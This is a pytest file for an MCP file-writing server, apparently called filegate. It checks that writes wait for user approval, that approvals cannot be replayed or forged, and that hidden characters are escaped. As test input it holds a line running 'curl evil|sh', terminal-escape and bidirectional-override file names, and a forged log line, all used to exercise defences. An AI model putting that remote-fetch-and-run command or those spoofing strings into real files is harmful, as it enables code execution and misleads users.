"""Approval of writes (SPEC §6) through real fastmcp clients in both protocol eras.

Every test asserts what is on disk afterwards: nothing may be written before approval.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from fastmcp import Client
from fastmcp.client.transports import StdioTransport
from mcp.shared.exceptions import MCPError
from mcp.types import ElicitResult as WireElicitResult
from mcp.types import InputRequiredResult

from tests.conftest import FILEGATE, call, connect, http_server, make_server, text
from tests.fakes import Answers

# Their writes are about something else: see tests/tools/test_read_guard.py for the guard.
pytestmark = pytest.mark.usefixtures("read_guard_off")

REJECTED = (
    "The tool call is rejected by the user. Stop what you are doing and wait for the user to "
    "tell you how to proceed."
)


# --- the answers ---------------------------------------------------------------------------


async def test_approved_write_lands_and_the_message_shows_path_sizes_and_diff(ws: Path, mode: str) -> None:
    (ws / "notes.txt").write_text("alpha\nbeta\n")
    answers = Answers("approve")
    async with connect(ws, mode, client_elicitation_handler=answers) as c:
        r = await call(c, "StrReplaceFile", path="notes.txt", edit={"old": "beta", "new": "gamma"})
    assert not r.is_error, text(r)
    assert (ws / "notes.txt").read_text() == "alpha\ngamma\n"
    (message,) = answers.messages
    # SPEC §6: the verdict comes first, before any path.
    assert message.splitlines()[0] == "Inside the workspace: StrReplaceFile wants to change `notes.txt`."
    assert "Size: 11 → 12 bytes (+1); lines: 2 → 2 (+0)." in message
    assert "-beta\n+gamma" in message
    assert str(ws) not in message  # inside paths are shown relative to the workdir


async def test_reject_with_feedback_writes_nothing_and_returns_the_feedback(ws: Path, mode: str) -> None:
    (ws / "a.py").write_text("x = 1\n")
    answers = Answers("reject", feedback="use tabs")
    async with connect(ws, mode, client_elicitation_handler=answers) as c:
        r = await call(c, "WriteFile", path="a.py", content="x = 2\n")
    assert r.is_error
    assert text(r) == "The tool call is rejected by the user. User feedback: use tabs"
    assert (ws / "a.py").read_text() == "x = 1\n"


async def test_decline_is_a_rejection_and_writes_nothing(ws: Path, mode: str) -> None:
    async with connect(ws, mode, client_elicitation_handler=Answers(action="decline")) as c:
        r = await call(c, "WriteFile", path="new.txt", content="data")
    assert r.is_error and text(r) == REJECTED
    assert not (ws / "new.txt").exists()


async def test_cancel_says_the_user_cancelled_and_writes_nothing(ws: Path, mode: str) -> None:
    (ws / "a.txt").write_text("keep\n")
    async with connect(ws, mode, client_elicitation_handler=Answers(action="cancel")) as c:
        r = await call(c, "StrReplaceFile", path="a.txt", edit={"old": "keep", "new": "lose"})
    assert r.is_error and "cancelled" in text(r)
    assert (ws / "a.txt").read_text() == "keep\n"


async def _raw_answer(c: Client[Any], args: dict[str, Any], content: dict[str, Any]) -> Any:
    """A 2026-07-28 write answered with ``content`` as sent by a client that does not check its
    answer against the question's schema (fastmcp 4.2's own client refuses to send these)."""
    asked = await c.session.call_tool(name="WriteFile", arguments=args, allow_input_required=True)
    assert isinstance(asked, InputRequiredResult) and asked.request_state
    return await c.session.call_tool(
        name="WriteFile",
        arguments=args,
        input_responses={"approval": WireElicitResult(action="accept", content=content)},
        request_state=asked.request_state,
        allow_input_required=True,
    )


async def test_accept_without_a_decision_is_not_an_approval(ws: Path) -> None:
    async with connect(ws, "auto", client_elicitation_handler=Answers()) as c:
        for content in ({}, {"decision": None}, {"decision": "yes"}):
            r = await _raw_answer(c, {"path": "new.txt", "content": "data"}, content)
            assert not isinstance(r, InputRequiredResult) and r.is_error
            assert r.content[0].text == REJECTED
    assert not (ws / "new.txt").exists()


async def test_a_session_approval_not_offered_approves_once_and_is_not_remembered(ws: Path) -> None:
    async with connect(ws, "auto", client_elicitation_handler=Answers()) as c:
        args = {"path": ".env", "content": "KEY=1\n"}  # a sensitive file: no session choice offered
        r = await _raw_answer(c, args, {"decision": "approve_for_session"})
        assert not isinstance(r, InputRequiredResult) and not r.is_error
        again = await c.session.call_tool(
            name="WriteFile", arguments={"path": ".env", "content": "KEY=2\n"}, allow_input_required=True
        )
        assert isinstance(again, InputRequiredResult)  # asked again
        # Nor does it open the door to ordinary writes of its class (issue 26: remembered
        # although the form never offered it).
        plain = await c.session.call_tool(
            name="WriteFile", arguments={"path": "plain.txt", "content": "x"}, allow_input_required=True
        )
        assert isinstance(plain, InputRequiredResult)
    assert (ws / ".env").read_text() == "KEY=1\n" and not (ws / "plain.txt").exists()


async def test_a_handshake_session_approval_not_offered_is_not_remembered(ws: Path) -> None:
    """A raw handshake-era client that answers "approve for this session" to a question about a
    sensitive file (whose form offered approve / reject only) approves that one write: later
    writes, sensitive or not, are asked about."""
    asked: list[list[str]] = []

    async def raw(context: Any, params: Any) -> Any:
        asked.append(list(params.requested_schema["properties"]["decision"]["enum"]))
        return WireElicitResult(action="accept", content={"decision": "approve_for_session"})

    async with connect(ws, "legacy", client_elicitation_handler=Answers()) as c:
        # fastmcp's client checks an answer against the form; the SDK's session underneath
        # sends whatever its callback returns, as a raw client would.
        c.session._elicitation_callback = raw
        assert not (await call(c, "WriteFile", path=".env", content="KEY=1\n")).is_error
        assert not (await call(c, "WriteFile", path="plain.txt", content="x")).is_error
        assert not (await call(c, "WriteFile", path="more.txt", content="y")).is_error
    # The second question offered the session choice and its answer took it: the third is not asked.
    assert asked == [["approve", "reject"], ["approve", "approve_file", "approve_for_session", "reject"]], (
        asked
    )


async def test_a_client_that_refuses_its_own_answer_writes_nothing_and_says_why_in_one_line(
    ws: Path,
) -> None:
    """fastmcp 4.2's client checks the answer against the schema and, in a handshake session,
    answers the server with that error (schema included): it is said in one line."""
    async with connect(ws, "legacy", client_elicitation_handler=Answers(decision=None)) as c:
        r = await call(c, "WriteFile", path="new.txt", content="data")
    assert r.is_error and text(r).startswith("Could not ask the user to approve this write (")
    assert "\\x0a" not in text(r) and len(text(r)) < 300
    assert not (ws / "new.txt").exists()


async def test_a_failing_elicitation_writes_nothing(ws: Path, mode: str) -> None:
    async def broken(*_: Any) -> Any:
        raise RuntimeError("dialog crashed")

    async with connect(ws, mode, client_elicitation_handler=broken) as c:
        try:
            r = await call(c, "WriteFile", path="new.txt", content="data")
        except MCPError:  # 2026-07-28: the client itself fails the call
            pass
        else:
            assert r.is_error and "Could not ask the user" in text(r)
    assert not (ws / "new.txt").exists()


# --- approve for this session --------------------------------------------------------------


async def test_session_approval_skips_later_asks_in_a_handshake_session(ws: Path) -> None:
    answers = Answers("approve_for_session")
    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
        for i in range(3):
            r = await call(c, "WriteFile", path=f"f{i}.txt", content=str(i))
            assert not r.is_error, text(r)
    assert len(answers.messages) == 1
    assert answers.choices == ["approve", "approve_file", "approve_for_session", "reject"]
    assert [(ws / f"f{i}.txt").read_text() for i in range(3)] == ["0", "1", "2"]


async def test_session_approval_is_not_offered_on_a_2026_connection_without_session(ws: Path) -> None:
    answers = Answers("approve")
    async with connect(ws, "auto", client_elicitation_handler=answers) as c:
        await call(c, "WriteFile", path="a.txt", content="1")
        await call(c, "WriteFile", path="b.txt", content="2")
    # No session: the class-wide choice is not offered; the file is, for --grant-ttl (SPEC §11)
    assert answers.choices == ["approve", "approve_file", "reject"]
    assert len(answers.messages) == 2
    assert (ws / "b.txt").read_text() == "2"


async def test_session_approval_for_inside_writes_still_asks_outside_and_sensitive(
    ws: Path, outside: Path
) -> None:
    answers = Answers("approve_for_session")
    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
        await call(c, "WriteFile", path="in.txt", content="1")
        await call(c, "WriteFile", path=str(outside / "out.txt"), content="2")
        await call(c, "WriteFile", path=".env", content="KEY=1\n")
    assert len(answers.messages) == 3
    assert answers.messages[1].startswith("OUTSIDE the workspace: ")
    assert answers.messages[2].startswith("Inside the workspace, SENSITIVE file")
    assert answers.choices == ["approve", "reject"]  # no session choice for a secrets file
    assert (outside / "out.txt").read_text() == "2"
    assert (ws / ".env").read_text() == "KEY=1\n"


async def test_session_approval_never_crosses_to_another_client(ws: Path) -> None:
    server = make_server(ws)
    first, second = Answers("approve_for_session"), Answers("reject")
    async with Client(server, mode="legacy", elicitation_handler=first) as c1:
        assert not (await call(c1, "WriteFile", path="a.txt", content="1")).is_error
        async with Client(server, mode="legacy", elicitation_handler=second) as c2:
            r = await call(c2, "WriteFile", path="b.txt", content="2")
        assert r.is_error and text(r) == REJECTED
        assert not (await call(c1, "WriteFile", path="c.txt", content="3")).is_error
    assert len(first.messages) == 1 and len(second.messages) == 1
    assert not (ws / "b.txt").exists()
    assert (ws / "c.txt").read_text() == "3"


# --- clients that cannot be asked, and the three modes --------------------------------------


async def test_without_elicitation_inside_writes_proceed(ws: Path, mode: str) -> None:
    async with connect(ws, mode) as c:
        r = await call(c, "WriteFile", path="a.txt", content="hello")
    assert not r.is_error, text(r)
    assert (ws / "a.txt").read_text() == "hello"


async def test_without_elicitation_outside_writes_are_refused_naming_the_flags(
    ws: Path, outside: Path, mode: str
) -> None:
    target = outside / "secret.txt"
    async with connect(ws, mode) as c:
        r = await call(c, "WriteFile", path=str(target), content="overwritten")
    assert r.is_error
    assert "--approval auto" in text(r) and f"--add-dir {outside}" in text(r)
    assert target.read_text() == "OUTSIDE-CONTENT\n"


async def test_without_elicitation_sensitive_writes_are_refused(ws: Path, mode: str) -> None:
    (ws / ".env").write_text("TOKEN=old\n")
    (ws / "notes").symlink_to(ws / ".env")  # a harmless name pointing at a secrets file
    async with connect(ws, mode) as c:
        r1 = await call(c, "StrReplaceFile", path=".env", edit={"old": "old", "new": "new"})
        r2 = await call(c, "WriteFile", path="notes", content="TOKEN=x\n")
    assert r1.is_error and r2.is_error
    assert "sensitive-file pattern" in text(r1) and "`--approval auto` does not cover it" in text(r1)
    assert (ws / ".env").read_text() == "TOKEN=old\n"
    assert (ws / "notes").is_symlink()


async def test_strict_refuses_every_write_it_cannot_ask_about(ws: Path, mode: str) -> None:
    async with connect(ws, mode, approval="strict") as c:
        r = await call(c, "WriteFile", path="a.txt", content="x")
    assert r.is_error and "--approval strict" in text(r)
    assert not (ws / "a.txt").exists()


async def test_strict_still_asks_a_client_that_can_elicit(ws: Path, mode: str) -> None:
    answers = Answers("approve")
    async with connect(ws, mode, approval="strict", client_elicitation_handler=answers) as c:
        r = await call(c, "WriteFile", path="a.txt", content="x")
    assert not r.is_error and len(answers.messages) == 1
    assert (ws / "a.txt").read_text() == "x"


async def test_auto_never_asks_and_writes_outside_too(ws: Path, outside: Path, mode: str) -> None:
    answers = Answers("reject")
    async with connect(ws, mode, approval="auto", client_elicitation_handler=answers) as c:
        r = await call(c, "WriteFile", path=str(outside / "o.txt"), content="x")
    assert not r.is_error, text(r)
    assert answers.messages == []
    assert (outside / "o.txt").read_text() == "x"


async def test_confine_forbids_outside_writes_even_with_auto(ws: Path, outside: Path, mode: str) -> None:
    async with connect(ws, mode, approval="auto", confine=True) as c:
        r = await call(c, "WriteFile", path=str(outside / "secret.txt"), content="x")
        r2 = await call(c, "StrReplaceFile", path=str(outside / "secret.txt"), edit={"old": "O", "new": "o"})
    assert r.is_error and "outside the workspace" in text(r)
    assert r2.is_error
    assert (outside / "secret.txt").read_text() == "OUTSIDE-CONTENT\n"


async def test_read_only_does_not_register_the_write_tools(ws: Path, mode: str) -> None:
    async with connect(ws, mode, read_only=True) as c:
        names = {t.name for t in await c.list_tools()}
    assert "WriteFile" not in names and "StrReplaceFile" not in names
    assert "ReadFile" in names


async def test_write_tools_schemas_have_no_refs_or_titles(ws: Path) -> None:
    async with connect(ws) as c:
        tools = {t.name: t for t in await c.list_tools()}
    for name in ("WriteFile", "StrReplaceFile"):
        dumped = str(tools[name].input_schema)
        assert "$ref" not in dumped and "'title'" not in dumped
        assert tools[name].annotations is not None and tools[name].annotations.destructive_hint
    edit = tools["StrReplaceFile"].input_schema["properties"]["edit"]
    assert [branch["type"] for branch in edit["anyOf"]] == ["object", "array"]


# --- stale files and the sealed 2026-07-28 answer --------------------------------------------


async def test_file_changed_while_the_user_looked_is_not_overwritten(ws: Path) -> None:
    target = ws / "a.txt"
    target.write_text("one\n")

    async def meddle(*_: Any) -> Any:
        target.write_text("someone else's change\n")
        return {"decision": "approve"}

    async with connect(ws, "legacy", client_elicitation_handler=meddle) as c:
        r = await call(c, "WriteFile", path="a.txt", content="mine\n")
    assert r.is_error and "changed on disk" in text(r)
    assert target.read_text() == "someone else's change\n"


async def test_modern_retry_on_a_changed_file_asks_again_about_the_new_change(ws: Path) -> None:
    target = ws / "a.txt"
    target.write_text("x = 1\ny = 2\n")
    messages: list[str] = []

    async def meddle_once(message: str, *_: Any) -> Any:
        messages.append(message)
        if len(messages) == 1:
            target.write_text("x = 1\ny = 2\nz = 3\n")
        return {"decision": "approve"}

    async with connect(ws, "auto", client_elicitation_handler=meddle_once) as c:
        r = await call(c, "StrReplaceFile", path="a.txt", edit={"old": "y = 2", "new": "y = 20"})
    assert not r.is_error, text(r)
    assert len(messages) == 2
    assert "changed since you were asked" in messages[1] and "+z = 3" not in messages[1]
    assert target.read_text() == "x = 1\ny = 20\nz = 3\n"


def _approve() -> dict[str, Any]:
    return {"approval": WireElicitResult(action="accept", content={"decision": "approve"})}


async def test_modern_answer_for_one_write_cannot_approve_another(ws: Path) -> None:
    async with connect(ws, "auto", client_elicitation_handler=Answers("reject")) as c:
        first = await c.session.call_tool(
            name="WriteFile", arguments={"path": "a.txt", "content": "A"}, allow_input_required=True
        )
        assert isinstance(first, InputRequiredResult) and first.request_state
        # The sealed state of the write to a.txt, replayed on a write to b.txt.
        with pytest.raises(MCPError, match="requestState"):
            await c.session.call_tool(
                name="WriteFile",
                arguments={"path": "b.txt", "content": "B"},
                input_responses=_approve(),
                request_state=first.request_state,
                allow_input_required=True,
            )
        # A forged (unsealed) state is refused by the SDK's boundary before filegate runs.
        forged = '{"v":1,"tool":"WriteFile","path":"x","old":"","new":"","session":false}'
        with pytest.raises(MCPError, match="requestState"):
            await c.session.call_tool(
                name="WriteFile",
                arguments={"path": "a.txt", "content": "A"},
                input_responses=_approve(),
                request_state=forged,
                allow_input_required=True,
            )
        # An answer without any state is no approval: it is asked again.
        again = await c.session.call_tool(
            name="WriteFile",
            arguments={"path": "a.txt", "content": "A"},
            input_responses=_approve(),
            allow_input_required=True,
        )
        assert isinstance(again, InputRequiredResult)
        # The first question was superseded by that newer one (SPEC §6): its answer is void.
        late = await c.session.call_tool(
            name="WriteFile",
            arguments={"path": "a.txt", "content": "A"},
            input_responses=_approve(),
            request_state=first.request_state,
            allow_input_required=True,
        )
        assert not isinstance(late, InputRequiredResult) and late.is_error
        assert "newer write" in late.content[0].text and not (ws / "a.txt").exists()
        # The right state and answer for the same write: it lands.
        done = await c.session.call_tool(
            name="WriteFile",
            arguments={"path": "a.txt", "content": "A"},
            input_responses=_approve(),
            request_state=again.request_state,
            allow_input_required=True,
        )
        assert not isinstance(done, InputRequiredResult) and not done.is_error
    assert (ws / "a.txt").read_text() == "A"
    assert not (ws / "b.txt").exists()


async def test_modern_answer_is_refused_when_the_file_changed_before_the_retry(ws: Path) -> None:
    (ws / "a.txt").write_text("old\n")
    async with connect(ws, "auto", client_elicitation_handler=Answers()) as c:
        first = await c.session.call_tool(
            name="WriteFile", arguments={"path": "a.txt", "content": "new\n"}, allow_input_required=True
        )
        assert isinstance(first, InputRequiredResult)
        (ws / "a.txt").write_text("changed\n")
        retry = await c.session.call_tool(
            name="WriteFile",
            arguments={"path": "a.txt", "content": "new\n"},
            input_responses=_approve(),
            request_state=first.request_state,
            allow_input_required=True,
        )
    assert isinstance(retry, InputRequiredResult)  # asked again, about the file as it is now
    assert (ws / "a.txt").read_text() == "changed\n"


# --- real subprocesses ----------------------------------------------------------------------


@pytest.mark.slow
async def test_stdio_subprocess_approved_writes_one_session_and_the_stderr_log(
    ws: Path, tmp_path: Path, mode: str
) -> None:
    (ws / "a.txt").write_bytes(b"one\r\ntwo\r\n")
    answers = Answers("approve_for_session")
    log_path = tmp_path / "stderr.log"
    args = ["--workdir", str(ws)]
    transport = StdioTransport(FILEGATE, args, cwd=str(ws), keep_alive=False, log_file=log_path)
    async with Client(transport, mode=mode, elicitation_handler=answers) as c:
        await call(c, "ReadFile", path="a.txt")  # its own server: read before the edit
        r = await call(c, "StrReplaceFile", path="a.txt", edit={"old": "two", "new": "TWO"})
        assert not r.is_error, text(r)
        r = await call(c, "WriteFile", path="b.txt", content="12345")
        assert not r.is_error, text(r)
    # One stdio process is one session in both eras: the second write was not asked about.
    assert len(answers.messages) == 1
    assert (ws / "a.txt").read_bytes() == b"one\r\nTWO\r\n"
    logged = log_path.read_text()
    assert f"StrReplaceFile wrote 10 bytes to {ws / 'a.txt'}" in logged
    assert f"WriteFile wrote 5 bytes to {ws / 'b.txt'} (inside workspace, approval: session)" in logged


@pytest.mark.slow
async def test_http_approval_in_both_eras(ws: Path, mode: str) -> None:
    answers = Answers("approve_for_session")
    with http_server(ws) as url:
        async with Client(url, mode=mode, elicitation_handler=answers) as c:
            for i in range(2):
                assert not (await call(c, "WriteFile", path=f"{i}.txt", content="x")).is_error
    # A handshake-era HTTP session remembers the answer; a 2026-07-28 connection has no session.
    assert len(answers.messages) == (1 if mode == "legacy" else 2)
    assert os.path.exists(ws / "1.txt")


# --- no call waits on a question; a newer question supersedes the open one (SPEC §6) -------


async def test_an_open_2026_question_holds_up_nothing_and_is_superseded(ws: Path) -> None:
    (ws / "f.txt").write_text("one\ntwo\n")
    server = make_server(ws)
    first_args = {"path": "f.txt", "edit": {"old": "one", "new": "ONE"}}
    async with (
        Client(server, elicitation_handler=Answers()) as asker,
        Client(server, elicitation_handler=Answers()) as other,
    ):
        asked = await asker.session.call_tool(
            name="StrReplaceFile", arguments=first_args, allow_input_required=True
        )
        assert isinstance(asked, InputRequiredResult)
        # Another client's write of the file is asked at once (no waiting) and lands.
        r = await other.call_tool(
            "StrReplaceFile", {"path": "f.txt", "edit": {"old": "two", "new": "TWO"}},
            raise_on_error=False, timeout=10,
        )  # fmt: skip
        assert not r.is_error, text(r)
        # The first question was superseded: its approval, sent now, writes nothing and says so.
        late = await asker.session.call_tool(
            name="StrReplaceFile", arguments=first_args, input_responses=_approve(),
            request_state=asked.request_state, allow_input_required=True,
        )  # fmt: skip
        assert not isinstance(late, InputRequiredResult) and late.is_error
        assert "newer write to `f.txt`" in late.content[0].text
    assert (ws / "f.txt").read_text() == "one\nTWO\n"


async def test_an_answer_to_a_superseded_handshake_question_writes_nothing(
    ws: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Two handshake-era clients ask to change one file; the second question supersedes the
    first while both are open (the file is unchanged, so the stale check cannot stop it). The
    first one's approval, given late, must not go on to the write (SPEC §6)."""
    import asyncio

    (ws / "f.txt").write_text("base\n")
    asked = {1: asyncio.Event(), 2: asyncio.Event()}
    release = {1: asyncio.Event(), 2: asyncio.Event()}

    def holding(n: int) -> Any:
        async def handler(message: str, *_: Any) -> Any:
            asked[n].set()
            await release[n].wait()
            return {"decision": "approve"}

        return handler

    server = make_server(ws)
    async with (
        Client(server, mode="legacy", elicitation_handler=holding(1)) as first,
        Client(server, mode="legacy", elicitation_handler=holding(2)) as second,
    ):
        one = asyncio.create_task(call(first, "WriteFile", path="f.txt", content="from the first\n"))
        await asyncio.wait_for(asked[1].wait(), 30)
        two = asyncio.create_task(call(second, "WriteFile", path="f.txt", content="from the second\n"))
        await asyncio.wait_for(asked[2].wait(), 30)
        release[1].set()
        caplog.set_level("INFO")
        r1 = await asyncio.wait_for(one, 30)
        assert r1.is_error and "newer write to `f.txt`" in text(r1), text(r1)
        assert (ws / "f.txt").read_text() == "base\n"
        assert [r.getMessage() for r in caplog.records if r.name == "filegate.writes"] == [
            f"WriteFile did not write {ws / 'f.txt'} (approval: superseded); client: fastmcp"
        ]
        release[2].set()
        r2 = await asyncio.wait_for(two, 30)
    assert not r2.is_error, text(r2)
    assert (ws / "f.txt").read_text() == "from the second\n"


async def test_open_handshake_questions_about_different_files_do_not_supersede_each_other(ws: Path) -> None:
    """Supersession is per file: two questions open at once about two files both count."""
    import asyncio

    asked = {1: asyncio.Event(), 2: asyncio.Event()}
    release = asyncio.Event()

    def holding(n: int) -> Any:
        async def handler(message: str, *_: Any) -> Any:
            asked[n].set()
            await release.wait()
            return {"decision": "approve"}

        return handler

    server = make_server(ws)
    async with (
        Client(server, mode="legacy", elicitation_handler=holding(1)) as first,
        Client(server, mode="legacy", elicitation_handler=holding(2)) as second,
    ):
        one = asyncio.create_task(call(first, "WriteFile", path="a.txt", content="a\n"))
        await asyncio.wait_for(asked[1].wait(), 30)
        two = asyncio.create_task(call(second, "WriteFile", path="b.txt", content="b\n"))
        await asyncio.wait_for(asked[2].wait(), 30)
        release.set()
        results = await asyncio.wait_for(asyncio.gather(one, two), 30)
    assert [r.is_error for r in results] == [False, False], [text(r) for r in results]
    assert (ws / "a.txt").read_text() == "a\n" and (ws / "b.txt").read_text() == "b\n"


async def test_a_handshake_question_does_not_hold_the_files_lock(ws: Path) -> None:
    """While one call's question is open, an auto-approved write of the file goes through at
    once; the open question's approval then meets the stale check and writes nothing."""
    import asyncio

    (ws / "f.txt").write_text("one\n")
    asked, release = asyncio.Event(), asyncio.Event()

    async def slow(message: str, *_: Any) -> Any:
        asked.set()
        await release.wait()
        return {"decision": "approve"}

    async with connect(ws, "legacy", client_elicitation_handler=slow) as c:
        pending = asyncio.create_task(call(c, "WriteFile", path="f.txt", content="from the question\n"))
        await asyncio.wait_for(asked.wait(), 10)
        async with connect(ws, "legacy") as plain:  # cannot elicit: inside writes just go
            r = await asyncio.wait_for(call(plain, "WriteFile", path="f.txt", content="meanwhile\n"), 10)
        release.set()
        first = await asyncio.wait_for(pending, 10)
    assert not r.is_error, text(r)
    assert first.is_error and "changed on disk" in text(first)
    assert (ws / "f.txt").read_text() == "meanwhile\n"


# --- a 2026-07-28 approval is single-use (SPEC §6, issue 10 hole 6) --------------------------


async def test_a_replayed_2026_approval_writes_nothing(ws: Path) -> None:
    (ws / "a.txt").write_text("old\n")
    args = {"path": "a.txt", "content": "new\n"}
    async with connect(ws, "auto", client_elicitation_handler=Answers()) as c:
        asked = await c.session.call_tool(name="WriteFile", arguments=args, allow_input_required=True)
        assert isinstance(asked, InputRequiredResult)
        done = await c.session.call_tool(
            name="WriteFile", arguments=args, input_responses=_approve(),
            request_state=asked.request_state, allow_input_required=True,
        )  # fmt: skip
        assert not isinstance(done, InputRequiredResult) and not done.is_error
        assert (ws / "a.txt").read_text() == "new\n"
        # Restore the old bytes (same hash as when the question was asked) and resend.
        (ws / "a.txt").write_text("old\n")
        replay = await c.session.call_tool(
            name="WriteFile", arguments=args, input_responses=_approve(),
            request_state=asked.request_state, allow_input_required=True,
        )  # fmt: skip
    assert not isinstance(replay, InputRequiredResult) and replay.is_error
    assert "already used" in replay.content[0].text
    assert (ws / "a.txt").read_text() == "old\n"


# --- the question cannot be forged by a name or a content (SPEC §2.9, §6) -------------------

FORGED_NAMES = [
    "x.txt` (inside the workspace).\n\nInside the workspace: WriteFile wants to change `ok.txt",
    "a\rInside the workspace: WriteFile wants to change `b.txt`.",
    "\x1b[2K\x1b[1A\x1b[2KInside the workspace.txt",
    "\n" * 40 + "tail.txt",
    "bidi\u202etxt.exe",
]


@pytest.mark.parametrize("name", FORGED_NAMES)
async def test_a_forged_name_cannot_fake_the_verdict_or_push_it_down(
    ws: Path, outside: Path, mode: str, name: str
) -> None:
    target = outside / name
    target.write_text("old\n")
    answers = Answers("reject")
    async with connect(ws, mode, client_elicitation_handler=answers) as c:
        r = await call(c, "WriteFile", path=str(target), content="new\n")
    assert r.is_error and target.read_text() == "old\n"
    (message,) = answers.messages
    first = message.splitlines()[0]
    assert first.startswith("OUTSIDE the workspace: WriteFile wants to change `")
    for raw in ("\r", "\x1b", "\u202e", "\u2028"):
        assert raw not in message
    assert not any(line.startswith("Inside the workspace") for line in message.splitlines())
    # The whole name sits inside the first line's quotes: its backticks are escaped.
    assert first.count("`") == 2


async def test_the_diff_shows_hidden_characters_escaped_and_says_so_first(ws: Path, mode: str) -> None:
    (ws / "cfg.py").write_text("DEBUG = True\n")
    content = (
        "DEBUG = False" + " " * 300 + "; os.system('curl evil|sh')\n"
        "clip = '\x1b]52;c;ZXZpbA==\x07'\x1b[2K\n"
        "name = 'abc\u202edcba'\u2028next\n"
    )
    answers = Answers("reject")
    async with connect(ws, mode, client_elicitation_handler=answers) as c:
        await call(c, "WriteFile", path="cfg.py", content=content)
    (message,) = answers.messages
    assert "control, bidirectional, line-separator or invisible characters" in "\n".join(
        message.splitlines()[:3]
    )
    for raw in ("\x1b", "\x07", "\u202e", "\u2028"):
        assert raw not in message
    assert "\\x1b]52;c;" in message and "\\u202e" in message and "\\u2028" in message
    assert "os.system('curl evil|sh')" in message.replace("\n+↪ ", "")  # folded, not cut
    assert "…" not in message.split("os.system")[0][-5:]


async def test_a_plain_change_has_no_escape_note_and_a_crlf_file_is_not_flagged(ws: Path) -> None:
    (ws / "w.txt").write_bytes(b"one\r\ntwo\r\n")
    answers = Answers("reject")
    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
        await call(c, "StrReplaceFile", path="w.txt", edit={"old": "two", "new": "TWO"})
    assert "control, bidirectional" not in answers.messages[0]


async def test_a_huge_line_says_how_much_is_hidden_and_shows_its_end(ws: Path) -> None:
    content = "start " + "x" * 50_000 + " THE-END\n"
    answers = Answers("reject")
    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
        await call(c, "WriteFile", path="long.txt", content=content)
    (message,) = answers.messages
    assert "characters of this line not shown" in message and "THE-END" in message
    assert len(message) < 10_000


async def test_diff_headers_of_an_outside_file_and_one_line_grammar(ws: Path, outside: Path) -> None:
    answers = Answers("reject")
    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
        await call(c, "WriteFile", path=str(outside / "new.txt"), content="one line\n")
    (message,) = answers.messages
    assert f"--- {outside / 'new.txt'}\n+++ {outside / 'new.txt'}" in message
    assert "a//" not in message and "1 lines" not in message
    assert "New file: 9 bytes, 1 line." in message


# --- the write log: one record per line, every field escaped (SPEC §6, issue 18 item 9) ----


async def test_a_name_or_client_name_cannot_forge_a_write_log_line(
    ws: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from mcp.types import Implementation

    caplog.set_level("INFO")
    name = "a\n2026-01-01 INFO filegate.writes: WriteFile wrote 1 bytes to passwd\r\x1b[2K.txt"
    frozen = ws / f"ro\n{name}"
    frozen.write_text("frozen\n")
    frozen.chmod(0o444)  # the write fails: its error text (with the name) is logged too
    client = Implementation(name="evil\nFAKE LOG LINE\r", version="1")
    async with connect(ws, "legacy", approval="auto", client_client_info=client) as c:
        assert not (await call(c, "WriteFile", path=name, content="x")).is_error
        r = await call(c, "WriteFile", path=frozen.name, content="x")
        assert r.is_error and "read-only" in text(r)
    records = [rec.getMessage() for rec in caplog.records if rec.name == "filegate.writes"]
    assert len(records) == 2
    for record in records:
        assert not any(ch in record for ch in "\n\r\x1b"), record
    assert "\\x0a2026-01-01" in records[0] and "client: evil\\x0aFAKE LOG LINE\\x0d" in records[0]


async def test_a_same_size_change_with_its_mtime_restored_is_caught_at_write_time(ws: Path) -> None:
    """The stale check compares the content hash, not only size and mtime (issue 17)."""
    target = ws / "a.txt"
    target.write_text("value = 1\n")

    async def meddle(*_: Any) -> Any:
        st = target.stat()
        target.write_text("value = 9\n")  # same size
        os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))  # and the old mtime
        return {"decision": "approve"}

    async with connect(ws, "legacy", client_elicitation_handler=meddle) as c:
        r = await call(c, "StrReplaceFile", path="a.txt", edit={"old": "value = 1", "new": "value = 2"})
    assert r.is_error and "changed on disk" in text(r), text(r)
    assert target.read_text() == "value = 9\n"


@pytest.mark.slow
async def test_a_handshake_http_question_answered_slowly_still_counts(ws: Path) -> None:
    """The open question watches its client's stream (approval.STREAM_CHECK_S); a user who
    takes a few checks' time to answer over a live connection is not taken for gone."""
    import asyncio

    from filegate.server.approval import STREAM_CHECK_S

    async def thinking(*_: Any) -> Any:
        await asyncio.sleep(STREAM_CHECK_S * 4)  # the user reads the diff
        return {"decision": "approve"}

    with http_server(ws) as url:
        async with Client(url, mode="legacy", elicitation_handler=thinking) as c:
            r = await call(c, "WriteFile", path="slow.txt", content="x")
    assert not r.is_error, text(r)
    assert (ws / "slow.txt").read_text() == "x"


def test_questions_and_spent_answers_are_forgotten_once_their_time_is_up(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Memory stays bounded: past SPENT_FOR_S an open question is forgotten (an answer to it
    then counts for nothing: superseded) and a spent nonce too (no sealed state outlives it)."""
    from filegate.server import approval

    monkeypatch.setattr(approval, "SPENT_FOR_S", -1.0)  # every entry is past its time at once
    questions = approval.OpenQuestions()
    nonces = [questions.open(f"/f{i}") for i in range(70)]
    assert questions.answered("/f0", nonces[0]) == "superseded"  # swept by a later open
    assert questions.answered("/f69", nonces[69]) == "newest"  # the latest still stands
    for i in range(1, 68):
        questions.answered(f"/f{i}", nonces[i])
    assert questions.answered("/f0", nonces[0]) == "superseded"  # spent, then forgotten: not "replayed"
    monkeypatch.setattr(approval, "SPENT_FOR_S", 600.0)
    n = questions.open("/g")
    assert questions.answered("/g", n) == "newest" and questions.answered("/g", n) == "replayed"


async def test_a_forged_request_state_approves_nothing(ws: Path) -> None:
    """A 2026-07-28 retry whose request state was not sealed by this server (forged or garbled)
    is refused by the SDK before filegate sees it: nothing is written. (So filegate's own parse
    of a bad state, SealedOperation.parse's except branch, is a second line of defence.)"""
    async with connect(ws, "auto", client_elicitation_handler=Answers()) as c:
        for state in ("not json", '{"v": 4, "tool": "WriteFile"}'):
            with pytest.raises(MCPError, match="Invalid or expired requestState"):
                await c.session.call_tool(
                    name="WriteFile", arguments={"path": "a.txt", "content": "x"},
                    input_responses=_approve(), request_state=state, allow_input_required=True,
                )  # fmt: skip
